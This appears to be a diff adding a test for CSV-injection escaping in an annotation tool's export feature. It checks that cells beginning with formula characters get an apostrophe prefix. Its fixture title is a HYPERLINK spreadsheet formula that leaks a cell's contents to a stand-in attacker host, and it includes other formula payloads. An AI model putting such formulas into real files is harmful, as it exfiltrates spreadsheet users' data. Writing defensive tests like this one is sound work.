@@ -49,3 +49,62 @@ suite('CSV export: RFC 4180 quoting of line breaks', () => {
     expect(article.text.slice(Number(row[column('start')]), Number(row[column('end')]))).toBe('a claim.\n\nSecond paragraph');
   });
 });
+
+suite('CSV export: no spreadsheet formula from the article (OWASP CSV injection)', () => {
+  const title = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';
+  const page = `<!doctype html><html><head><title>${title.replace(/&/g, '&amp;')}</title></head><body><article>
+<p>=1+1 is what the minister said, and the rest followed.</p>
+<p>-2 points was the fall the report gave for the quarter.</p>
+</article></body></html>`;
+
+  it('a text cell starting with = + - @ tab or CR gets a leading apostrophe; offsets stay right; JSON, W3C and brat keep the text', async () => {
+    const app = setup();
+    const file = join(tempDir('inj'), 'inj.html');
+    writeFileSync(file, page);
+    const { article } = await app.ok('article:open-dropped', { path: file });
+    expect(article.title).toBe(title);
+    const tag = async (type: string, exact: string) => {
+      const start = article.text.indexOf(exact);
+      return app.ok('annotation:create', { articleId: article.id, type, start, end: start + exact.length });
+    };
+    const source = await tag('source', '=1+1 is what');
+    const quote = await tag('quote', '-2 points was the fall');
+    await app.ok('annotation:update', { articleId: article.id, id: quote.id, patch: { links: [{ type: 'attributedTo', target: source.id }], note: '@SUM(A1:A9)' } });
+    await app.ok('annotation:update', { articleId: article.id, id: source.id, patch: { note: '\t+cmd' } });
+    const carriage = await tag('claim', 'the minister');
+    await app.ok('annotation:update', { articleId: article.id, id: carriage.id, patch: { note: '\r=1+1' } });
+
+    const rows = readCsv(await exportTo(app, article.id, 'csv', 'inj.csv'));
+    expect(rows.map((r) => r.length)).toEqual([13, 13, 13, 13]);
+    const byId = new Map(rows.slice(1).map((r) => [r[column('id')], r]));
+    for (const row of byId.values()) {
+      expect(row[column('article title')]).toBe(`'${title}`);
+      expect(row[column('article path')]).toBe(file);
+    }
+    const cells = (id: string, ...names: (typeof CSV_COLUMNS)[number][]) => names.map((n) => byId.get(id)![column(n)]);
+    expect(cells(source.id, 'exact', 'note', 'attributed to')).toEqual(["'=1+1 is what", "'\t+cmd", '']);
+    expect(cells(quote.id, 'exact', 'note', 'attributed to')).toEqual(["'-2 points was the fall", "'@SUM(A1:A9)", "'=1+1 is what"]);
+    expect(cells(carriage.id, 'exact', 'note')).toEqual(['the minister', "'\r=1+1"]);
+    // The offsets are numbers as they were, and still name the text without the apostrophe.
+    for (const a of [source, quote]) {
+      const [start, end, startCodePoint, endCodePoint] = cells(a.id, 'start', 'end', 'startCodePoint', 'endCodePoint');
+      expect([start, end]).toEqual([String(a.target.position.start), String(a.target.position.end)]);
+      expect([startCodePoint, endCodePoint]).toEqual([start, end]);
+      expect(article.text.slice(Number(start), Number(end))).toBe(a.target.quote.exact);
+    }
+
+    const json = JSON.parse(readFileSync(await exportTo(app, article.id, 'json', 'inj.json'), 'utf8'));
+    expect(json.article.title).toBe(title);
+    expect(json.annotations.map((a: { exact: string; note: string }) => [a.exact, a.note])).toEqual([
+      ['=1+1 is what', '\t+cmd'],
+      ['the minister', '\r=1+1'],
+      ['-2 points was the fall', '@SUM(A1:A9)'],
+    ]);
+    const w3c = readFileSync(await exportTo(app, article.id, 'w3c', 'inj.jsonld'), 'utf8');
+    expect(JSON.parse(w3c).first.items.map((a: { target: { selector: { exact?: string }[] } }) => a.target.selector?.[0]?.exact).filter(Boolean)).toEqual(['=1+1 is what', 'the minister', '-2 points was the fall']);
+    const brat = await exportTo(app, article.id, 'brat', 'inj.brat');
+    const ann = readFileSync(join(brat, `${article.id}.ann`), 'utf8');
+    expect(ann).toContain('\t=1+1 is what\n');
+    expect(ann).toContain('\t-2 points was the fall\n');
+  });
+});
